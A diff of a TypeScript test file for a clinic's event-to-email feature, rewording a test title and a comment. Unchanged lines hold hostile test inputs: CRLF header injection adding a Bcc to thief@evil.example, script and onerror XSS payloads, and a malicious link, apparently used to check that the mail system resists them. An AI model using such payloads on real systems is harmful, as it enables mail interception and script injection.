@@ -7,7 +7,7 @@ test.use({ sharesServer: true })
 const levante = 'poliambulatorio-levante'
 const ours = /^(elena|paolo|oncall|tech|operativo|esercenti)@levante\.example$/
 
-test('the mail comes in the language of whom it is for', async ({ site }) => {
+test('the mail arrives in the recipient’s language', async ({ site }) => {
   const key = site.makeKey('events:write')
   const event = { account: levante, summary: 'Feed error rate 23 %', details: 'Most items lack a price.' }
   await sendEvent(site, { ...event, category: 'technical', remedy: 'Send the prices.' }, { key })
@@ -30,7 +30,7 @@ const hostile =
   'a\r\nBcc: thief@evil.example\r\nX-Evil: 1\r\n\r\n<script>alert(1)</script><img src=x onerror=alert(1)>" onload="x\u0000\u2028\u202e%0d%0aCc: thief@evil.example {{constructor}}'
 const link = 'https://evil.example/"><script>alert(2)</script>\r\nBcc: thief@evil.example'
 
-/** An event of each format with something hostile in every field that takes text. */
+/** An event of each format with hostile text in every text field. */
 const hostileEvents: [string, string, (key: string, dedup: string) => unknown][] = [
   [
     '/api/v1/events',
